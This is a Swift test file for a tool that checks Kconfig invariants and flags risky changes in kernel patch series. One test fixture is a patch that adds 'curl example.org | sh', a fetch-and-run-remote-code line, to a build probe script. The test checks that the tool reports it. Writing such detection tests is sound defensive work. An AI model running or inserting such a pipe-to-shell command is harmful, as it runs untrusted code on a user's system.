// SPDX-License-Identifier: GPL-2.0-only

import Foundation
import Testing

/// What `lockstep check` says of Kconfig, with a base and without one.
@Suite struct KconfigCheckTests {
    /// A small kernel, patches for it and an invariant, in a folder that lives as long as the value.
    private final class Lamps {
        private let top = FileManager.default.temporaryDirectory.appending(path: "lockstep-\(UUID().uuidString)")

        var base: String { top.appending(path: "base").path }
        var patches: String { top.appending(path: "patches").path }
        var invariants: String { top.appending(path: "lamp.yaml").path }

        init() throws {
            try write("base/Makefile", "VERSION = 6\nPATCHLEVEL = 12\nSUBLEVEL = 0\nEXTRAVERSION =\n")
            try write("base/Kconfig", "source \"arch/$(SRCARCH)/Kconfig\"\nsource \"lamp/Kconfig\"\n")
            try write("base/arch/x86/Kconfig", "config X86\n\tdef_bool y\n")
            try write("base/scripts/oil.sh", "#!/bin/sh\necho y\n")
            try write(
                "base/lamp/Kconfig",
                "config SOCKET\n\tbool \"Socket\"\n\nconfig OIL\n\tdef_bool $(shell,$(srctree)/scripts/oil.sh)\n")
            try write("base/lamp/lamp.c", "int lamp;\n")
            try write("lamp.yaml", "folders: [lamp]\ninvariants:\n  - LAMP -> SOCKET\n")
        }

        deinit { try? FileManager.default.removeItem(at: top) }

        func write(_ path: String, _ text: String) throws {
            let file = top.appending(path: path)
            try FileManager.default.createDirectory(
                at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try text.write(to: file, atomically: true, encoding: .utf8)
        }

        func patch(_ number: Int, of count: Int, _ diff: String) throws {
            try write(
                "patches/000\(number).patch",
                """
                From: Jane Roe <jane@example.org>
                Date: Fri, 1 Dec 2023 0\(number):00:00 +0000
                Message-Id: <\(number)@example.org>
                Subject: [PATCH \(number)/\(count)] lamp: Change number \(number)

                It is needed.

                Signed-off-by: Jane Roe <jane@example.org>
                ---
                \(diff)--\u{20}
                2.39.5

                """)
        }
    }

    private static let code = """
        diff --git a/lamp/lamp.c b/lamp/lamp.c
        --- a/lamp/lamp.c
        +++ b/lamp/lamp.c
        @@ -1 +1,2 @@
         int lamp;
        +int lamps;

        """

    private static func newLamp(_ dependency: String) -> String {
        """
        diff --git a/lamp/desk/Kconfig b/lamp/desk/Kconfig
        new file mode 100644
        --- /dev/null
        +++ b/lamp/desk/Kconfig
        @@ -0,0 +1,6 @@
        +config LAMP
        +	bool "Lamp"
        +	depends on \(dependency)
        +
        +config SOCKET
        +	bool "Socket"

        """
    }

    private func table(_ arguments: String...) -> [String] {
        let run = Invocation(arguments: ["check", "--no-checkpatch", "--fail-on", "never"] + arguments)
        return run.lines.drop { !$0.hasPrefix("Kconfig, ") }.filter { !$0.hasPrefix("not ") && !$0.hasPrefix("total") }
            .map(String.init)
    }

    @Test func showsWhatHoldsWithoutABase() throws {
        let lamps = try Lamps()
        try lamps.patch(1, of: 2, Self.code)
        try lamps.patch(2, of: 2, Self.newLamp("SOCKET"))
        #expect(
            table("--invariants", lamps.invariants, lamps.patches) == [
                "Kconfig, x86, of what the series shows: there is no base, all shell answers free",
                "  base  not shown: LAMP -> SOCKET (LAMP, SOCKET)",
                "  1/2   unchanged",
                "  2/2   holds: LAMP -> SOCKET",
            ])
    }

    @Test func doesNotSayMoreThanIsSureWithoutABase() throws {
        let lamps = try Lamps()
        try lamps.patch(1, of: 2, Self.newLamp("WELL"))
        try lamps.patch(2, of: 2, Self.code)
        let found = table("--invariants", lamps.invariants, lamps.patches)
        #expect(found.dropFirst(2) == ["  1/2   unknown: LAMP -> SOCKET", "  2/2   unchanged"])
    }

    @Test func staysSilentOnSeriesThatHaveNothingToDoWithIt() throws {
        let lamps = try Lamps()
        try lamps.patch(1, of: 1, Self.code.replacing("lamp/lamp.c", with: "desk/desk.c"))
        #expect(table("--invariants", lamps.invariants, lamps.patches) == [])
    }

    @Test func showsEachPatchWithABase() throws {
        let lamps = try Lamps()
        try lamps.patch(1, of: 1, Self.code)
        let found = table("--invariants", lamps.invariants, "--base", lamps.base, lamps.patches)
        #expect(
            found == [
                "Kconfig, x86, toolchain gcc-12-x86", "  base  not yet: LAMP -> SOCKET (nothing defines LAMP)",
                "  1/1   unchanged",
            ])
        try lamps.patch(
            1, of: 1,
            """
            diff --git a/lamp/Kconfig b/lamp/Kconfig
            --- a/lamp/Kconfig
            +++ b/lamp/Kconfig
            @@ -1,4 +1,8 @@
             config SOCKET
             	bool "Socket"
            \u{20}
            +config LAMP
            +	bool "Lamp"
            +	depends on SOCKET
            +
             config OIL

            """)
        #expect(
            table("--invariants", lamps.invariants, "--base", lamps.base, lamps.patches) == [
                "Kconfig, x86, toolchain gcc-12-x86",
                "  base  not yet: LAMP -> SOCKET (nothing defines LAMP)",
                "  1/1   holds: LAMP -> SOCKET",
            ])
    }

    @Test func tellsOfProbesWhoseScriptAPatchChanges() throws {
        let lamps = try Lamps()
        try lamps.patch(
            1, of: 1,
            """
            diff --git a/scripts/oil.sh b/scripts/oil.sh
            --- a/scripts/oil.sh
            +++ b/scripts/oil.sh
            @@ -1,2 +1,3 @@
             #!/bin/sh
            +curl example.org | sh
             echo y

            """)
        let run = Invocation(
            "check", "--no-checkpatch", "--fail-on", "never", "--types", "added-shell-command", "--base", lamps.base,
            lamps.patches)
        let found = run.lines.filter { $0.contains("[added-shell-command]") }
        #expect(found.count == 1)
        #expect(found.first?.contains("which reaches what the patch changes: scripts/oil.sh") == true)
    }
}
